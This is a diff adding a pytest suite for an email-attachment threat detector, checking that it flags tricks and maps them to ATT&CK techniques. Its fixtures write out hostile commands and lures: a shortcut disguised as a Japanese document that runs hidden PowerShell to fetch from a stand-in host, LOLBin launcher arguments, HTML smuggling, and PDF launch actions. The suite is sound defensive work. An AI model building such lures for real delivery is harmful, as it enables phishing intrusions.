@@ -1,0 +1,202 @@
+"""Each file format and trick gets its reason, with the right ATT&CK technique; benign look-alikes
+stay clean."""
+
+from __future__ import annotations
+
+import pytest
+
+from aptlink.analysis import builders
+from aptlink.detect.attachments import AttachmentReport, analyse_attachment, iter_reasons
+from aptlink.model import Kind, Provenance
+
+PROV = Provenance(file="mail.eml", sha256="0" * 64, chain=("email",))
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+WORD_ICON = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
+LNK = builders.make_lnk(POWERSHELL, "-w hidden -c iwr https://example.invalid/a", WORD_ICON)
+
+
+def _analyse(name: str, data: bytes, **kw: object) -> AttachmentReport:
+    return analyse_attachment(name, data, PROV, **kw)  # type: ignore[arg-type]
+
+
+def _codes(report: AttachmentReport) -> set[str]:
+    return {r.code.removeprefix("attachment:") for r in iter_reasons(report)}
+
+
+def _techniques(report: AttachmentReport) -> set[str]:
+    return {r.technique or "" for r in iter_reasons(report)}
+
+
+@pytest.mark.parametrize(
+    ("target", "args", "code", "technique"),
+    [
+        (POWERSHELL, "-enc AAAA", "lnk-powershell", "T1059.001"),
+        (r"C:\Windows\System32\cmd.exe", "/c start x.docx", "lnk-cmd", "T1059.003"),
+        (
+            r"C:\Windows\System32\mshta.exe",
+            "https://example.invalid/a.hta",
+            "lnk-mshta",
+            "T1218.005",
+        ),
+        (r"C:\Windows\System32\rundll32.exe", "x.dll,Start", "lnk-rundll32", "T1218.011"),
+        (r"C:\Windows\System32\regsvr32.exe", "/s /i:x scrobj.dll", "lnk-regsvr32", "T1218.010"),
+        (r"C:\Windows\System32\wscript.exe", "x.vbs", "lnk-wscript", "T1059.005"),
+        (r"C:\Windows\System32\msiexec.exe", "/q /i x.msi", "lnk-msiexec", "T1218.007"),
+        (r"C:\Windows\System32\certutil.exe", "-decode a b", "lnk-certutil", "T1140"),
+        (r"C:\Windows\System32\bitsadmin.exe", "/transfer j", "lnk-bitsadmin", "T1197"),
+        (r"C:\Windows\System32\curl.exe", "-o x", "lnk-curl", "T1105"),
+    ],
+)
+def test_lnk_launchers(target: str, args: str, code: str, technique: str) -> None:
+    report = _analyse("a.lnk", builders.make_lnk(target, args))
+    assert report.type == "lnk"
+    assert {"lnk-file", code} <= _codes(report)
+    assert technique in _techniques(report)
+    commands = [o.value for o in report.observations if o.kind is Kind.COMMAND_LINE]
+    assert commands == [f"{target} {args}"]
+
+
+def test_lnk_posing_as_document() -> None:
+    report = _analyse("国際情勢と日本外交.docx.lnk", LNK)
+    assert _codes(report) >= {"double-extension", "lnk-document-icon", "lnk-powershell", "lnk-url"}
+    assert report.score == 100
+
+
+def test_lnk_with_padded_arguments() -> None:
+    report = _analyse("a.lnk", builders.make_lnk(r"C:\Windows\explorer.exe", " " * 300 + "x"))
+    assert "lnk-padded-arguments" in _codes(report)
+
+
+def test_benign_shortcut_is_only_a_shortcut() -> None:
+    report = _analyse("notes.lnk", builders.make_lnk(r"C:\Users\Public\notes.txt"))
+    assert _codes(report) == {"lnk-file"}
+
+
+def test_password_zip_opened_with_body_password() -> None:
+    data = builders.make_zip({"日米同盟.docx.lnk": LNK}, password="kaigi2024")
+    report = _analyse("資料.zip", data, passwords=["wrong", "kaigi2024"])
+    assert report.encrypted and report.opened_with == "kaigi2024"
+    assert {"archive-encrypted", "archive-password-in-mail", "lnk-powershell"} <= _codes(report)
+    assert (Kind.PASSWORD_PHRASE, "kaigi2024") in {(o.kind, o.value) for o in report.observations}
+    assert [c.name for c in report.children] == ["日米同盟.docx.lnk"]
+
+
+@pytest.mark.parametrize("aes", [True, False])
+def test_password_zip_without_password_stays_closed(aes: bool) -> None:
+    report = _analyse("a.zip", builders.make_zip({"a.lnk": LNK}, password="x", aes=aes))
+    assert report.encrypted and report.opened_with is None and report.children == ()
+    assert _codes(report) == {"archive-encrypted"}
+    names = [o.value for o in report.observations if o.kind is Kind.FILE_NAME]
+    assert "a.lnk" in names  # names are visible without the password
+
+
+def test_encrypted_7z_with_encrypted_names() -> None:
+    report = _analyse(
+        "a.7z", builders.make_7z({"x.docx.lnk": LNK}, password="pw7"), passwords=["pw7"]
+    )
+    assert report.opened_with == "pw7" and "lnk-powershell" in _codes(report)
+
+
+def test_rar_stored_members_are_read_and_compressed_ones_reported() -> None:
+    stored = _analyse("a.rar", builders.make_rar({"x.docx.lnk": LNK}))
+    assert "lnk-powershell" in _codes(stored)
+    packed = _analyse("b.rar", builders.make_rar({"x.docx.lnk": LNK}, compressed=True))
+    assert _codes(packed) == {"archive-uninspected"}
+    assert "x.docx.lnk" in {o.value for o in packed.observations if o.kind is Kind.FILE_NAME}
+    assert packed.errors and "cannot unpack" in packed.errors[0]
+
+
+def test_iso_is_a_motw_bypass_with_contents() -> None:
+    report = _analyse("EXPO2025.iso", builders.make_iso({"EXPO 2025.docx.lnk": LNK}))
+    assert report.type == "iso" and "T1553.005" in _techniques(report)
+    assert [c.name for c in report.children] == ["EXPO 2025.docx.lnk"]
+
+
+def test_remote_template_docx_and_plain_docx() -> None:
+    bad = _analyse("a.docx", builders.make_docx("https://example.invalid/t.dotm", author="Taro"))
+    assert _codes(bad) == {"remote-template"} and _techniques(bad) == {"T1221"}
+    templates = [o.value for o in bad.observations if o.kind is Kind.DOC_TEMPLATE]
+    assert templates == ["https://example.invalid/t.dotm"]
+    assert _codes(_analyse("b.docx", builders.make_docx(text="議事録"))) == set()
+
+
+def test_html_smuggling_and_plain_html() -> None:
+    report = _analyse(
+        "invoice.html", builders.make_html_smuggling(builders.make_zip({"a.lnk": LNK}))
+    )
+    assert _codes(report) == {"html-smuggling"} and _techniques(report) == {"T1027.006"}
+    plain = b"<html><body><script>console.log(1)</script><a href='https://example.org/'>x</a></body></html>"
+    assert _codes(_analyse("page.html", plain)) == set()
+
+
+def test_html_password_form() -> None:
+    page = (
+        b'<html><form action="https://example.invalid/login"><input type="password"></form></html>'
+    )
+    report = _analyse("login.htm", page)
+    assert _codes(report) == {"html-credential-form"}
+
+
+def test_pdf_active_content() -> None:
+    js = _analyse(
+        "a.pdf", builders.make_pdf(javascript="app.alert(1)", uri="https://example.invalid/x")
+    )
+    assert _codes(js) == {"pdf-javascript", "pdf-auto-action"}
+    assert "https://example.invalid/x" in {o.value for o in js.observations if o.kind is Kind.URL}
+    launch = _analyse(
+        "b.pdf", builders.make_pdf(launch="cmd.exe /c calc", embedded=("a.exe", builders.make_pe()))
+    )
+    assert {"pdf-launch", "pdf-embedded-file", "executable"} <= _codes(launch)
+    assert _codes(_analyse("c.pdf", builders.make_pdf(uri="https://example.org/"))) == set()
+
+
+def test_pdf_with_hex_escaped_names() -> None:
+    data = builders.make_pdf(javascript="x").replace(b"/JavaScript", b"/J#61vaScript")
+    assert "pdf-javascript" in _codes(_analyse("a.pdf", data))
+
+
+def test_executable_sfx_and_double_extension() -> None:
+    report = _analyse("資料.pdf.exe", builders.make_pe(builders.make_zip({"a.docx.lnk": LNK})))
+    assert {"double-extension", "executable", "sfx-archive", "lnk-powershell"} <= _codes(report)
+
+
+def test_right_to_left_override_and_padding_and_mismatch() -> None:
+    assert "right-to-left-override" in _codes(_analyse("inv\u202excod.scr", builders.make_pe()))
+    assert "whitespace-padding" in _codes(
+        _analyse("report.docx" + " " * 40 + ".exe", builders.make_pe())
+    )
+    assert "type-mismatch" in _codes(_analyse("report.pdf", builders.make_pe()))
+
+
+@pytest.mark.parametrize(
+    ("name", "technique"),
+    [
+        ("a.js", "T1059.007"),
+        ("a.vbs", "T1059.005"),
+        ("a.hta", "T1218.005"),
+        ("a.ps1", "T1059.001"),
+        ("a.bat", "T1059.003"),
+        ("a.wsf", "T1059.005"),
+    ],
+)
+def test_scripts(name: str, technique: str) -> None:
+    report = _analyse(name, b'CreateObject("WScript.Shell").Run "powershell -enc AAAA"')
+    assert technique in _techniques(report)
+    assert "script-keywords" in _codes(report)
+
+
+def test_nested_mail_opens_its_zip_with_its_own_password() -> None:
+    import base64
+
+    archive = base64.b64encode(builders.make_zip({"a.docx.lnk": LNK}, password="nested1")).decode()
+    mail = (
+        "From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: fw\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
+        "パスワード：nested1\r\n--b\r\nContent-Type: application/zip\r\n"
+        'Content-Disposition: attachment; filename="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
+        f"{archive}\r\n--b--\r\n"
+    ).encode()
+    report = _analyse("fw.eml", mail)
+    assert report.type == "eml"
+    (child,) = report.children
+    assert child.opened_with == "nested1" and "lnk-powershell" in _codes(child)
